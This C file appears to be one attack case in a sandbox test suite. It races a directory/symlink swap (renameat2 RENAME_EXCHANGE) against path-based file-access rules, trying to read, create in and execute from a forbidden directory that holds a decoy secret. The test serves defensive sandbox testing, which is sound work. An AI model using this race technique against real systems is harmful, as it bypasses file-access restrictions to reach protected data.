/* A4: a directory and a link to where the policy forbids change places while names lead through them. */
/* Walls: tree */
/* Walls without namespaces: landlock-files */
#include "attack.h"
#include <libgen.h>

static atomic_int over;

static void *swap(void *unused)
{
    (void)unused;
    while (!over)
        syscall(SYS_renameat2, AT_FDCWD, "place", AT_FDCWD, "link", 2 /* RENAME_EXCHANGE */);
    return NULL;
}

int main(void)
{
    begin();
    pthread_t thread;
    char secret[PATH_MAX], through[PATH_MAX], made[PATH_MAX + 8];
    bool read_it = false, entered = false;
    strcpy(secret, decoy("ATTACK_FORBIDDEN"));
    char *name = basename(strdup(secret)), *directory = dirname(secret);
    CHECK(mkdir("place", 0700) == 0 && symlink(directory, "link") == 0);
    snprintf(through, sizeof through, "place/%s", name);
    make_file(through, "allowed", 0600);
    snprintf(made, sizeof made, "%s/made", directory);
    start(&thread, swap, NULL);
    for (int64_t since = now_ns(); races(since, 150);) {
        read_it |= reads_secret(through);
        int fd = open("place/made", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
        if (fd >= 0)
            close(fd);
        unlink("place/made");
        int before = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (chdir("place") == 0) {
            entered |= reads_secret(name);
            CHECK(fchdir(before) == 0);
        }
        close(before);
        if (access(through, X_OK) == 0) {
            pid_t pid = fork_child();
            if (pid == 0)
                _exit(execl(through, name, NULL));
            wait_status(pid);
        }
    }
    over = 1;
    CHECK(pthread_join(thread, NULL) == 0);
    struct stat about;
    GOT_IF(read_it, "the secret through a swapped link\n");
    GOT_IF(entered, "the directory of the secret through a swapped link\n");
    GOT_IF(stat(made, &about) == 0, "a file made through a swapped link\n");
    return 0;
}
